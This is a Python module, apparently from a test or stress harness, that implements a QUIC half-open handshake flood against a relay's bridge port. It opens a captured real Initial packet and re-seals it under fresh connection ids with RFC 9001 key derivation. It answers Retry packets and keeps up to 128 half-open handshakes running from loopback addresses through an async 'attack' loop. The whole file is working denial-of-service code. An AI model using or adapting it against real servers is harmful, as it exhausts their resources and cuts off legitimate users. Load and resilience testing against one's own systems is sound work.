"""Handshakes of QUIC at the bridge port that stop half-way.

Each begins with the first packet of a real relay under a new connection id. Its keys come from that id (RFC 9001
section 5.2), so it is opened once and sealed again for each handshake. A Retry is answered.
"""

import os
import socket
import struct
import time

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand
from cryptography.hazmat.primitives.hmac import HMAC

SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
HALF_OPEN, LIFE = 128, 2


def expand(secret, label, length):
    info = struct.pack(">HB", length, 6 + len(label)) + b"tls13 " + label + b"\0"
    return HKDFExpand(hashes.SHA256(), length, info).derive(secret)


def keys(destination):
    """Key, nonce base and header key of what a client sends in Initial packets."""
    extract = HMAC(SALT, hashes.SHA256())
    extract.update(destination)
    secret = expand(extract.finalize(), b"client in", 32)
    return expand(secret, b"quic key", 16), expand(secret, b"quic iv", 12), expand(secret, b"quic hp", 16)


def mask(header_key, sample):
    return Cipher(algorithms.AES(header_key), modes.ECB()).encryptor().update(sample)


def number(octets, at):
    """A variable-length integer, and where it ends."""
    length = 1 << (octets[at] >> 6)
    return int.from_bytes(octets[at : at + length], "big") & ((1 << (8 * length - 2)) - 1), at + length


def opened(packet):
    """Version, source id and frames of a client's first packet."""
    version, at = packet[1:5], 5
    destination, at = packet[at + 1 : at + 1 + packet[at]], at + 1 + packet[at]
    source, at = packet[at + 1 : at + 1 + packet[at]], at + 1 + packet[at]
    token, at = number(packet, at)
    length, at = number(packet, at + token)
    key, base, header_key = keys(destination)
    hidden = mask(header_key, packet[at + 4 : at + 20])
    head = bytearray(packet[:at])
    head[0] ^= hidden[0] & 0x0F
    width = (head[0] & 3) + 1
    plain = bytes(packet[at + place] ^ hidden[1 + place] for place in range(width))
    nonce = (int.from_bytes(base, "big") ^ int.from_bytes(plain, "big")).to_bytes(12, "big")
    frames = AESGCM(key).decrypt(nonce, packet[at + width : at + length], bytes(head) + plain)
    return version, source, frames


def sealed(version, destination, source, frames, token=b""):
    """A first packet of 1200 octets, with packet number 0 in two octets."""
    head = b"\xc1" + version + bytes([len(destination)]) + destination + bytes([len(source)]) + source
    head += struct.pack(">H", 0x4000 | len(token)) + token
    frames += b"\0" * max(0, 1200 - len(head) - 4 - len(frames) - 16)
    head += struct.pack(">H", 0x4000 | 2 + len(frames) + 16)
    key, base, header_key = keys(destination)
    body = AESGCM(key).encrypt(base, frames, head + b"\0\0")
    hidden = mask(header_key, body[2:18])
    return bytes([head[0] ^ hidden[0] & 0x0F]) + head[1:] + hidden[1:3] + body


class HalfOpen:
    """One handshake: the first packet, the answer to a Retry, and nothing more."""

    def __init__(self, target, source, packet, tally):
        self.packet, self.tally, self.until = packet, tally, time.monotonic() + LIFE
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        self.socket.bind((source, 0))
        self.socket.connect(target.bridge)
        self.send(os.urandom(8))
        tally["begun"] += 1

    def send(self, destination, token=b""):
        version, source, frames = self.packet
        try:
            self.tally["octets sent"] += self.socket.send(sealed(version, destination, source, frames, token))
        except OSError:
            self.tally["not sent"] += 1

    def turn(self):
        try:
            while True:
                answer = self.socket.recv(2048)
                self.tally["octets back"] += len(answer)
                if answer[0] & 0xF0 != 0xF0:
                    continue
                at = 6 + answer[5]
                theirs, at = answer[at + 1 : at + 1 + answer[at]], at + 1 + answer[at]
                self.tally["retries answered"] += 1
                self.send(theirs, answer[at:-16])
        except OSError:
            return


async def attack(target, pace, tally):
    packet, begun, open_ones = opened(target.initial), 0, []
    while True:
        for one in open_ones:
            one.turn()
            if one.until < time.monotonic():
                one.socket.close()
        open_ones = [one for one in open_ones if one.socket.fileno() >= 0]
        # A few each time, so that they end at different times.
        for _ in range(min(8, HALF_OPEN - len(open_ones))):
            begun += 1
            open_ones.append(HalfOpen(target, f"127.0.0.{75 + begun % 5}", packet, tally))
        await pace.rest(0.05)
